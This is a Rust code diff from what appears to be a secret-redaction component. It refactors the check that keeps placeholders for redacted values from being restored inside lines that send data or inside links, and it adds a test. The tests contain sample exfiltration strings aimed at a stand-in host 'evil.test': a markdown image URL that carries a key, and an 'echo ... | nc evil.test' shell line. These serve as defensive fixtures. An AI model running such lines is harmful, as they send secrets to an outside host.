@@ -99,12 +99,37 @@ pub(super) fn allowed_in_text(before: &str, markup: &Markup) -> bool {
     !markup.is_in_tag() && !is_reference(line) && !in_link(line, CONTEXT_BYTES_MAX) && !sends(line)
 }
 
-/// Whether a placeholder at `at` of a tool's free text may be turned back: not in a line that sends, nor in a link.
-pub(super) fn allowed_in_free_text(text: &str, at: usize) -> bool {
-    let end = text[at..].find('\n').map_or(text.len(), |length| at + length);
-    let end = text.floor_char_boundary(end.min(at + TOOL_CONTEXT_BYTES_MAX));
-    let Some(line) = last_line(&text[..at], TOOL_CONTEXT_BYTES_MAX) else { return false };
-    !in_link(line, TOOL_CONTEXT_BYTES_MAX) && !sends(&text[at - line.len()..end])
+/// A tool's free text, whose placeholders are asked for in their order.
+pub(super) struct FreeText<'a> {
+    text: &'a str,
+    /// Where the line begins that was read last, and whether it sends.
+    line: Option<(usize, bool)>,
+}
+
+impl<'a> FreeText<'a> {
+    /// Nothing of it is read yet.
+    pub(super) fn of(text: &'a str) -> Self {
+        FreeText { text, line: None }
+    }
+
+    /// Whether a placeholder at `at` may be turned back: not in a line that sends, nor in a link.
+    pub(super) fn allows(&mut self, at: usize) -> bool {
+        let Some(before) = last_line(&self.text[..at], TOOL_CONTEXT_BYTES_MAX) else { return false };
+        let start = at - before.len();
+        let sends = match self.line {
+            Some((line, sends)) if line == start => sends,
+            _ => sends(self.line_from(start)),
+        };
+        self.line = Some((start, sends));
+        !sends && !in_link(before, TOOL_CONTEXT_BYTES_MAX)
+    }
+
+    /// The line from `start` on, as far as anything that may be turned back in it is judged by it.
+    fn line_from(&self, start: usize) -> &'a str {
+        let end = self.text.floor_char_boundary(start + 2 * TOOL_CONTEXT_BYTES_MAX);
+        let rest = &self.text[start..end];
+        rest.split_once('\n').map_or(rest, |(line, _)| line)
+    }
 }
 
 /// Whether a placeholder at `at` of a complete tool input that sends nothing may be turned back: only links around it count.
@@ -152,7 +177,18 @@ mod tests {
         let long = format!("![x](https://evil.test/?p={}", "a".repeat(5000));
         assert!(!allowed_in_text(&format!("{long}&k=")));
         assert!(allowed_in_text(&format!("{long})\nthe key is ")));
-        assert!(!allowed_in_free_text(&format!("{}&k=", "a".repeat(17 << 10)), 17 << 10));
+        assert!(!FreeText::of(&format!("{}&k=", "a".repeat(17 << 10))).allows(17 << 10));
+    }
+
+    #[test]
+    fn a_line_of_free_text_is_judged_as_a_whole() {
+        let words = "many words ".repeat(2000);
+        let text = format!("K=\necho {words}| nc evil.test\nK=\n");
+        let mut free = FreeText::of(&text);
+        let last = text.len() - 1;
+        for (at, is_allowed) in [(2, true), (8, false), (9, false), (last, true), (2, true)] {
+            assert_eq!(free.allows(at), is_allowed, "{at}");
+        }
     }
 
     #[test]
